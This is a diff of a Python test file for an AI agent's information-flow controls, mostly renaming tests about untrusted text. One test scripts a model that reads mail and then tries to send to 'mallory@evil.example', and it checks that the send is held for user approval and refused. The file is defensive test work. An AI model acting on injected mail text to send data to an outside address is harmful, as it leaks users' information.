@@ -719,17 +719,17 @@ async def test_the_label_of_an_argument_is_that_of_the_values_it_was_made_from(c
     label = next(
         entry.about for entry in result.thread.entries if entry.kind == "message" and entry.data.role == "tool"
     )
-    assert label["label"]["trusted"] is False, "the output may have text of others"
+    assert label["label"]["trusted"] is False, "the output may have untrusted text"
 
 
-async def test_a_program_written_after_text_of_others_was_read_has_no_labels() -> None:
+async def test_a_program_written_after_untrusted_text_was_read_has_no_labels() -> None:
     model = Scripted(write("await read_mail()"), write("await send(to='mallory@evil.example')", "q"), "done")
     agent = Agent(model, tools=[read_mail, send], hooks=[InformationFlow(), CodeMode()], ask=lambda question: False)
     result = await agent.run("Read my mails.")
     assert "the user said no to: send (send):" in result.thread.messages[4].text
 
 
-async def test_a_program_without_text_of_others_leaves_the_run_trusted() -> None:
+async def test_a_program_without_untrusted_text_leaves_the_run_trusted() -> None:
     model = Scripted(write("await add(1)"), "done")
     result = await Agent(model, tools=[add], hooks=[InformationFlow(), CodeMode()]).run("go")
     label = next(
